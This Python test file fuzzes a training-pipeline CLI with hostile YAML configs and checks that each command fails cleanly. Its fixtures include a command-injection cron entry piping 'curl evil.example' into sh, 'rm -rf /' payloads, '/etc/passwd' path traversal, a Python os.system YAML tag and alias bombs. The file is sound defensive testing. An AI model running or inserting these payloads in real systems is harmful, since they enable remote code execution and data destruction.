"""Issue 11: hostile pipeline configs through the commands that read them (render, lint, run).

Two parts: the sixteen kinds of invalid config the issue's probes found (`lint` must refuse
every one), and a seeded fuzz run that generates hostile configs (wrong types, huge and
odd values, unicode and control characters, YAML tricks, damaged bytes) and checks each
command's contract: exit 0, or a non-zero exit with the problem on stderr as one line
(`error: FILE: field: problem`; a config with several problems gets a header line and one
line per problem), never a traceback, and within a time bound.
"""
from __future__ import annotations

import random
import re
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from test_config import billion_laughs
from typer.testing import CliRunner

from workflows.cli import app
from workflows.config import ConfigError
from workflows.manifest_file import load_manifest

ROOT = Path(__file__).resolve().parents[1]
REFERENCE = ROOT / "configs" / "pipelines" / "gemma2-2b-acereason-math.yaml"
SMOKE = ROOT / "configs" / "pipelines" / "smoke.yaml"
SEED = 20261202
RANDOM_CASES = 70
PER_COMMAND_S = 10.0
TOTAL_S = 60.0  # the whole fuzz run; about 15 s on one core

BILLION_LAUGHS = billion_laughs(indent="  ")


def _edit(old: str, new: str, regex: bool = False) -> Callable[[str], str]:
    """Replace the first occurrence of `old` (a literal, or a regex) with `new`; the config must hold it."""
    def edit(text: str) -> str:
        edited, count = re.subn(old if regex else re.escape(old), lambda _: new, text, count=1)
        assert count == 1, old
        return edited
    return edit


# The sixteen kinds of invalid config; each as an edit of the reference config's text.
INVALID_CONFIGS: dict[str, Callable[[str], str | bytes]] = {
    "duplicate-key": _edit("  gpus: 3\n", "  gpus: 3\n  gpus: 1\n"),
    "run-as-user-negative": _edit("  service_account: tunebench\n",
                                  "  service_account: tunebench\n  run_as_user: -1\n"),
    "image-with-newline": _edit("  service_account: tunebench\n",
                                '  service_account: tunebench\n  images: {train: "ghcr.io/o/t:1\\nrm -rf /"}\n'),
    "cron-reboot-injection": _edit('crons: ["0 3 * * 1"]', 'crons: ["@reboot; curl evil.example | sh"]'),
    "cron-out-of-range": _edit('crons: ["0 3 * * 1"]', 'crons: ["0 24 * * 1"]'),
    "timezone-invalid": _edit("  timezone: UTC", "  timezone: Mars/Olympus_Mons"),
    "eval-limit-1e30": _edit("  max_model_len: 4096\n", "  max_model_len: 4096\n  limit: 1.0e+30\n"),
    "gpu-memory-inf": _edit(r"gpu_memory_gib: [0-9.]+", "gpu_memory_gib: .inf", regex=True),
    "gpu-memory-400-digits": _edit(r"gpu_memory_gib: [0-9.]+", "gpu_memory_gib: " + "9" * 400,
                                   regex=True),
    "non-utf8": lambda text: text.replace("benchmarked on MMLU-Pro math", "caf\u00e9").encode("latin-1"),
    "alias-bomb": _edit("  overrides: {}\n", "  overrides:\n" + billion_laughs(indent="    ") + "\n"),
    "recursive-alias": _edit("  overrides: {}\n", "  overrides: &loop {again: *loop}\n"),
    "namespace-path": _edit("  namespace: argo\n", '  namespace: "../../x?y#"\n'),
    "timeout-beyond-a-year": _edit("  timeout: 8h\n", "  timeout: 99999999d\n"),
    "two-documents": lambda text: text + "---\nname: second\n",
    "nesting-too-deep": _edit("  overrides: {}\n", "  overrides: {deep: " + "[" * 3000 + "]" * 3000 + "}\n"),
}


def invoke(*args: Any) -> tuple[Any, float]:
    started = time.monotonic()
    result = CliRunner().invoke(app, [str(arg) for arg in args])
    return result, time.monotonic() - started


def assert_contract(result: Any, elapsed: float, what: str) -> None:
    """Exit 0, or non-zero with `error: ...` one line per problem on stderr; no traceback; in time."""
    assert elapsed < PER_COMMAND_S, f"{what}: took {elapsed:.1f}s"
    assert result.exception is None or isinstance(result.exception, SystemExit), (
        f"{what}: raised {result.exception!r}")
    assert "Traceback" not in result.output, f"{what}: {result.output[-2000:]}"
    if result.exit_code == 0:
        return
    lines = result.stderr.splitlines()
    assert lines and lines[0].startswith("error: "), f"{what}: stderr {result.stderr[:2000]!r}"
    if len(lines) > 1:  # several problems: a header, then exactly one indented line for each
        count = lines[0].rsplit(": ", 1)[-1]
        assert count == f"{len(lines) - 1} problem(s)", f"{what}: stderr {result.stderr[:2000]!r}"
        assert all(line.startswith("  ") for line in lines[1:]), f"{what}: stderr {result.stderr[:2000]!r}"


@pytest.fixture
def no_axolotl(monkeypatch):
    """Lint as on a machine without the training dependencies: the Axolotl schema check is skipped (and fast)."""
    monkeypatch.setitem(sys.modules, "axolotl", None)


@pytest.mark.parametrize("kind", sorted(INVALID_CONFIGS))
def test_item11_lint_refuses_each_kind_of_invalid_config(tmp_path, no_axolotl, kind):
    content = INVALID_CONFIGS[kind](REFERENCE.read_text(encoding="utf-8"))
    path = tmp_path / f"{kind}.yaml"
    path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    result, elapsed = invoke("lint", path)
    assert result.exit_code == 1, result.output
    assert "FAIL pipeline config" in result.stdout and "lint failed: 1 problem(s)" in result.stdout
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output and elapsed < PER_COMMAND_S
    rendered, elapsed = invoke("render", path)
    assert rendered.exit_code == 2
    assert_contract(rendered, elapsed, f"render {kind}")
    assert len(rendered.stderr.splitlines()) == 1


# --- the fuzz run -------------------------------------------------------------------------------

HOSTILE_VALUES: list[Any] = [
    None, True, False, -1, 0, 2**63, 10**400, -(10**400), 1e308, float("inf"), float("-inf"), float("nan"), 0.5,
    "", " ", "x" * 100_000, "\n", "a\nb", "\x1b[31mred\x1b[0m", "\u202eevil", "zero\u200bwidth", "\u00e9" * 1000,
    "\U0001f999" * 50, "../../etc/passwd", "/dev/zero", "{{workflow.name}}", "$(rm -rf /)", "`id`", "%s%n", "\\",
    "null", "~", "0x1F", "1e30", "@reboot", "yes", "on", "12:30", "2026-12-02", "\u0000nul", "a" * 300,
    [], [None], [[[]]], {}, {"": None}, {"a": {"b": {"c": 1}}}, ["math"] * 1000, [1, "two", 3.0],
]
HOSTILE_KEYS: list[Any] = ["", " ", "name ", "NAME", "a\nb", "\x1b[2J", "\u202ename", "\U0001f999", "k" * 5000,
                           "<<", "__class__", 0, -1, 3.5, True, None]
TEXT_TRICKS: dict[str, Callable[[random.Random, str], str | bytes]] = {
    "duplicate-line": lambda rng, text: _duplicate_line(rng, text),
    "truncate": lambda rng, text: text[: rng.randrange(1, len(text))],
    "utf8-bom": lambda rng, text: "\ufeff" + text,
    "latin1-bytes": lambda rng, text: _insert(rng, text.encode("utf-8"), b"\xe9\xff\xfe"),
    "nul-byte": lambda rng, text: _insert(rng, text.encode("utf-8"), b"\x00"),
    "tab-indent": lambda rng, text: text.replace("\n  ", "\n\t", 1),
    "alias-bomb": lambda rng, text: text + "x-bomb:\n" + BILLION_LAUGHS + "\n",
    "recursive-alias": lambda rng, text: text + "x-loop: &loop [*loop]\n",
    "deep-nesting": lambda rng, text: text + "x-deep: " + "{a: " * 2000 + "1" + "}" * 2000 + "\n",
    "many-documents": lambda rng, text: "---\n" + text + "\n---\n" + text,
    "empty-documents": lambda rng, text: "---\n---\n" + text,
    "python-tag": lambda rng, text: text + "x-call: !!python/object/apply:os.system ['true']\n",
    "binary-tag": lambda rng, text: text.replace("description: ", "description: !!binary aGk=\n# ", 1),
    "set-and-timestamp": lambda rng, text: text + "x-set: !!set {a, b}\nx-time: 2026-12-02T06:00:00Z\n",
    "merge-key": lambda rng, text: "<<: {name: other, x-extra: 1}\n" + text,
    "oversized": lambda rng, text: text + ("# " + "x" * 1000 + "\n") * 1100,
    "empty-file": lambda rng, text: "",
    "scalar-document": lambda rng, text: "just a string\n",
    "random-bytes": lambda rng, text: rng.randbytes(400),
    "anchor-redefined": lambda rng, text: text + "x-a: &dup 1\nx-b: &dup 2\nx-c: *dup\n",
    "unclosed-flow": lambda rng, text: text + "x-flow: [1, 2\n",
}


def _insert(rng: random.Random, data: bytes, extra: bytes) -> bytes:
    at = rng.randrange(len(data))
    return data[:at] + extra + data[at:]


def _duplicate_line(rng: random.Random, text: str) -> str:
    lines = text.splitlines(keepends=True)
    candidates = [n for n, line in enumerate(lines) if ":" in line and not line.lstrip().startswith("#")]
    n = rng.choice(candidates)
    return "".join(lines[: n + 1] + [lines[n]] + lines[n + 1:])


def _nodes(data: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every path in a parsed config (mappings by key, lists by index), the root excluded."""
    paths = [path] if path else []
    if isinstance(data, dict):
        for key, value in data.items():
            paths += _nodes(value, (*path, key))
    elif isinstance(data, list):
        for index, value in enumerate(data):
            paths += _nodes(value, (*path, index))
    return paths


def _container(data: Any, path: tuple[Any, ...]) -> Any:
    for part in path:
        data = data[part]
    return data


def _value_case(rng: random.Random, base: dict[str, Any]) -> str:
    data = yaml.safe_load(yaml.safe_dump(base))
    path = rng.choice(_nodes(data))
    _container(data, path[:-1])[path[-1]] = rng.choice(HOSTILE_VALUES)
    return yaml.safe_dump(data, allow_unicode=rng.random() < 0.5, sort_keys=False)


def _key_case(rng: random.Random, base: dict[str, Any]) -> str:
    data = yaml.safe_load(yaml.safe_dump(base))
    mappings = [()] + [path for path in _nodes(data) if isinstance(_container(data, path), dict)]
    _container(data, rng.choice(mappings))[rng.choice(HOSTILE_KEYS)] = rng.choice(HOSTILE_VALUES[:12])
    return yaml.safe_dump(data, allow_unicode=rng.random() < 0.5, sort_keys=False)


def hostile_configs(seed: int) -> list[tuple[str, bytes]]:
    """Every text trick once, then RANDOM_CASES seeded value, key and trick mutations of the smoke config."""
    rng = random.Random(seed)
    text = SMOKE.read_text(encoding="utf-8")
    base = yaml.safe_load(text)
    cases: list[tuple[str, str | bytes]] = [(f"trick-{name}", trick(rng, text)) for name, trick in TEXT_TRICKS.items()]
    for number in range(RANDOM_CASES):
        kind = rng.choices(["value", "key", "trick"], weights=[5, 2, 3])[0]
        if kind == "value":
            cases.append((f"{number}-value", _value_case(rng, base)))
        elif kind == "key":
            cases.append((f"{number}-key", _key_case(rng, base)))
        else:
            name = rng.choice(sorted(TEXT_TRICKS))
            cases.append((f"{number}-trick-{name}", TEXT_TRICKS[name](rng, text)))
    return [(name, content if isinstance(content, bytes) else content.encode("utf-8")) for name, content in cases]


def _fails_before_running(path: Path) -> bool:
    """Whether `tunebench run` refuses this file before it starts a task (only those are run: no trainings here)."""
    try:
        load_manifest(path)
    except ConfigError:
        return True
    return False


def test_fuzz_hostile_configs_through_render_lint_and_run(tmp_path, no_axolotl):
    started = time.monotonic()
    outcomes = {"accepted": 0, "refused": 0, "run": 0}
    for name, content in hostile_configs(SEED):
        path = tmp_path / f"{name}.yaml"
        path.write_bytes(content)
        rendered, elapsed = invoke("render", path)
        assert_contract(rendered, elapsed, f"render {name}")
        assert rendered.exit_code in (0, 2), f"render {name}: exit {rendered.exit_code}"
        outcomes["accepted" if rendered.exit_code == 0 else "refused"] += 1
        linted, elapsed = invoke("lint", path)
        assert linted.exception is None or isinstance(linted.exception, SystemExit), f"lint {name}: {linted.exception}"
        assert "Traceback" not in linted.output and elapsed < PER_COMMAND_S, f"lint {name}"
        assert linted.exit_code == (0 if "lint passed" in linted.stdout else 1), f"lint {name}: {linted.output[-800:]}"
        if rendered.exit_code != 0:
            assert linted.exit_code == 1, f"lint passed what render refused: {name}"
        if _fails_before_running(path):
            ran, elapsed = invoke("run", path, "--workdir", tmp_path / "work" / name)
            assert ran.exit_code == 2, f"run {name}: exit {ran.exit_code}: {ran.output[-800:]}"
            assert_contract(ran, elapsed, f"run {name}")
            outcomes["run"] += 1
    assert time.monotonic() - started < TOTAL_S
    # The generator must exercise both sides of the contract, or the test proves little.
    assert outcomes["accepted"] >= 5 and outcomes["refused"] >= 40 and outcomes["run"] >= 40, outcomes


@pytest.mark.parametrize(("content", "expected"), [
    (b"adapter: lora\nbase_model: caf\xe9\n", "not UTF-8 text (byte 0xe9"),
    (b"adapter: lora\nadapter: qlora\n", "line 2, column 1: duplicate key 'adapter' (first at line 1)"),
    (("bomb:\n" + BILLION_LAUGHS + "\n").encode(), "expands to more than"),
])
def test_item10_estimate_reads_the_axolotl_config_within_the_same_bounds(tmp_path, content, expected):
    config = tmp_path / "axolotl.yaml"
    config.write_bytes(content)
    result, elapsed = invoke("estimate", "--model", "google/gemma-2-2b", "--axolotl-config", config)
    assert result.exit_code == 2 and expected in result.stderr, result.output
    assert_contract(result, elapsed, "estimate")
    assert len(result.stderr.splitlines()) == 1
